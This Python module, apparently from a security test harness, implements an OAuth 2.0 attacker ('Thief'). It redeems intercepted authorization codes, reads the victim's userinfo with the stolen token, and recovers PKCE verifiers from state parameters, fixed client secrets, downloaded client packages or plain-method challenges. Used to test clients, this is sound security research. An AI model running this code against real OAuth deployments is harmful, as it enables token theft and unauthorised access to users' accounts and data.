"""The thief: redeems what it captured, and reads the victim's data with the token.

It works from loot alone. The client's identifier, redirect URI and scopes it learns as everybody
can: by starting a login of its own and reading where the client sends it.
"""

import asyncio
import io
import zipfile
from collections.abc import Iterable
from urllib.parse import urlencode

import httpx

from attacker.hunt import Finding, Method, hunt
from attacker.loot import LootBag, LootItem, NothingCapturedError, Sighting
from attacker.pkce import Pair, new_pair
from attacker.token_request import STRAIGHT, Bent, send
from attacker.vantage import Leg, Vantage
from attacker.wiretap import arguments_of, log_line, overhears, own_login, sightings
from reports.records import Exchange, Handover

VICTIMS_LEGS = (Leg.AUTHORIZATION_RESPONSE, Leg.AUTHORIZATION_REQUEST)


class Thief:
    """One attacker in one play. ``client`` is the public address of the honest client."""

    def __init__(self, http: httpx.AsyncClient, loot: LootBag, client: str) -> None:
        self.loot = loot
        self.http = http
        self._client = client
        self.metadata: dict[str, str] = {}
        self._login: Sighting | None = None
        self.own_exchange = ""
        self._pair: Pair | None = None

    @property
    def vantage(self) -> Vantage:
        """What this thief can see."""
        return self.loot.vantage

    def witness(self, exchange: Exchange) -> None:
        """Take in an exchange, as far as it was audible and the vantage reaches."""
        if not overhears(exchange):
            return
        if exchange.source == "thief":
            self.own_exchange = exchange.id
        for sighting in sightings(exchange):
            self.loot.show(sighting)

    def read_arguments(self, handover: Handover) -> None:
        """Take in the arguments of a process on the victim's machine."""
        for sighting in arguments_of(handover):
            self.loot.show(sighting)

    def read_log(self, handover: Handover) -> None:
        """Take in a line of an access log that is open to it."""
        for sighting in log_line(handover):
            self.loot.show(sighting)

    async def receive_code(self) -> LootItem:
        """The authorization code, once the channel has delivered it.

        Raises :class:`NothingCapturedError` when it does not.
        """
        return await self.loot.wait_for("code", Leg.AUTHORIZATION_RESPONSE)

    def catch(self) -> LootItem | None:
        """The newest code that has been shown already, if there is one."""
        return self.loot.find("code", Leg.AUTHORIZATION_RESPONSE)

    async def study_client(self) -> None:
        """Start a login of its own, and see how the client asks for a code.

        Also reads the provider's discovery document (RFC 8414), which is public, beside the
        authorization endpoint. Raises :class:`NothingCapturedError`.
        """
        if self._login is not None:
            return
        login = await self._start_own_login()
        issuer = login.text.partition("?")[0].rpartition("/")[0]
        answer = await self.http.get(f"{issuer}/.well-known/openid-configuration")
        self.metadata = answer.raise_for_status().json()
        self._login = login

    async def redeem(
        self, code: LootItem | None, verifier: LootItem | None = None, bent: Bent = STRAIGHT
    ) -> LootItem | None:
        """Redeem a code (RFC 6749 section 4.1.3); the token, or ``None`` when it was refused.

        Without a code there is nothing to redeem. ``bent`` breaks the rules of the request.
        """
        if code is None:
            return None
        await self.study_client()
        form = {
            "grant_type": "authorization_code",
            "code": code.value,
            "client_id": self.loot.need("client_id", Leg.OWN).value,
            "redirect_uri": self.loot.need("redirect_uri", Leg.OWN).value,
        }
        if verifier is not None:
            form["code_verifier"] = verifier.value
        answer = await send(self.http, self.metadata["token_endpoint"], form, bent)
        token = _member(answer, "access_token")
        if token is None:
            return None
        where = "the answer of the token endpoint"
        return self.loot.add(LootItem("access_token", token, Leg.OWN, self.own_exchange, where))

    async def use(self, token: LootItem | None) -> None:
        """Read the victim's data at userinfo (OpenID Connect Core section 5.3), given a token."""
        if token is not None:
            bearer = {"Authorization": f"Bearer {token.value}"}
            await self.http.get(self.metadata["userinfo_endpoint"], headers=bearer)

    def best_guess_at_verifier(self) -> LootItem | None:
        """The challenge behind the captured code, if it was seen: for ``plain``, the verifier."""
        request = self._request_behind_code()
        if request is None or "code_challenge" not in request.parameters:
            return None
        where = f"guessed: the challenge, read in {request.where}"
        challenge = request.parameters["code_challenge"]
        return self._verifier(challenge, request.leg, request.seen_in, where)

    async def verifier_from_state(self) -> LootItem:
        """The verifier that the victim's redirect carries in ``state``.

        The thief proves on a login of its own where the verifier sits, then reads the same place
        in the victim's ``state``. Raises :class:`NothingCapturedError`.
        """
        await self.study_client()
        own = self._own_login()
        finding = await _prove(own, {own.where: own.parameters.get("state", "")})
        theirs = self.loot.need("state", *VICTIMS_LEGS)
        verifier = finding.recipe.apply(theirs.value)
        if verifier is None:
            raise NothingCapturedError("the victim's state has no verifier where the thief's has")
        where = f"state of the victim's redirect > {finding.recipe}"
        return self._verifier(verifier, theirs.leg, theirs.seen_in, where)

    async def fixed_verifier(self) -> LootItem:
        """The one verifier that every copy of the client uses.

        It shows itself on an own login with ``plain``; with ``S256`` in the code of the client,
        for a thief whose vantage holds a copy. Either way two logins of the thief's own prove it:
        the challenge does not change. Raises :class:`NothingCapturedError`.
        """
        await self.study_client()
        own, again = self._own_login(), await self._start_own_login()
        if own.parameters.get("code_challenge") != again.parameters.get("code_challenge"):
            raise NothingCapturedError("the challenge changes from login to login: nothing fixed")
        texts = {again.where: again.text}
        if _method(own) != Method.PLAIN:
            texts = await self._unpack_client()
        seen_in = self.own_exchange
        finding = await _prove(own, texts)
        where = f"{finding.source} > {finding.recipe}"
        return self._verifier(finding.verifier, Leg.OWN, seen_in, where)

    def build_authorization_request(
        self, more: Iterable[tuple[str, str]] = (), **changes: str | None
    ) -> str:
        """An authorization request in the client's name with a challenge of the thief's own.

        RFC 8252 section 8.6. ``changes`` replaces parameters, or leaves them out where the value is
        ``None``; ``more`` adds some, also second ones of a name. Raises
        :class:`NothingCapturedError` before :meth:`study_client`.
        """
        template = self._own_login()
        request: dict[str, str | None] = dict(template.parameters)
        if "code_challenge" in request:
            self._pair = new_pair(_method(template))
            request["code_challenge"] = self._pair.challenge
        request |= changes
        pairs = [(name, value) for name, value in request.items() if value is not None]
        url = f"{template.text.partition('?')[0]}?{urlencode([*pairs, *more])}"
        where = "built by itself"
        self.loot.add(LootItem("authorization_request", url, Leg.OWN, self.own_exchange, where))
        return url

    def own_verifier(self) -> LootItem | None:
        """The verifier behind the challenge that the thief chose itself, if it chose one."""
        if self._pair is None:
            return None
        return self._verifier(self._pair.verifier, Leg.OWN, self.own_exchange, "chosen by itself")

    def make_up(self, kind: str, value: str) -> LootItem:
        """A value that the thief invents, such as a verifier that should not be accepted."""
        return self.loot.add(LootItem(kind, value, Leg.OWN, self.own_exchange, "made up"))

    def _request_behind_code(self) -> Sighting | None:
        """The newest request that was seen, with the ``state`` that came back beside the code."""
        state = self.loot.find("state", Leg.AUTHORIZATION_RESPONSE)
        for sighting in reversed(self.loot.sightings):
            if sighting.leg is Leg.AUTHORIZATION_REQUEST and (
                state is None or sighting.parameters.get("state") == state.value
            ):
                return sighting
        return None

    async def _start_own_login(self) -> Sighting:
        answer = await self.http.get(self._client)
        login = own_login(self.own_exchange, answer.headers.get("location", ""))
        if login is None:
            raise NothingCapturedError(
                f"the client answered {answer.status_code} to a login, without sending the thief "
                "to a provider"
            )
        self.loot.show(login)
        return login

    def _own_login(self) -> Sighting:
        if self._login is None:
            raise NothingCapturedError("the thief has not studied the client yet")
        return self._login

    async def _unpack_client(self) -> dict[str, str]:
        if not self.vantage.unpacks_app:
            raise NothingCapturedError("this thief holds no copy of the client")
        answer = await self.http.get(f"{self._client}/package.zip")
        with zipfile.ZipFile(io.BytesIO(answer.raise_for_status().content)) as package:
            return {name: package.read(name).decode("latin-1") for name in package.namelist()}

    def _verifier(self, value: str, leg: Leg, seen_in: str, where: str) -> LootItem:
        return self.loot.add(LootItem("code_verifier", value, leg, seen_in, where))


async def _prove(login: Sighting, texts: dict[str, str]) -> Finding:
    """The verifier of this login's challenge, found in one of the texts."""
    if "code_challenge" not in login.parameters:
        raise NothingCapturedError("the client uses no PKCE, so there is no verifier")
    # The search hashes a lot; the proxy and the browsers share this event loop.
    challenge = login.parameters["code_challenge"]
    finding = await asyncio.to_thread(hunt, texts, challenge, _method(login))
    if finding is None:
        raise NothingCapturedError("nothing the thief has seen hashes to the challenge")
    return finding


def _method(login: Sighting) -> str:
    # RFC 7636 section 4.3: left out, it is plain.
    return login.parameters.get("code_challenge_method", Method.PLAIN)


def _member(answer: httpx.Response, name: str) -> str | None:
    try:
        body = answer.json()
    except ValueError:
        return None
    return body.get(name) if isinstance(body, dict) else None
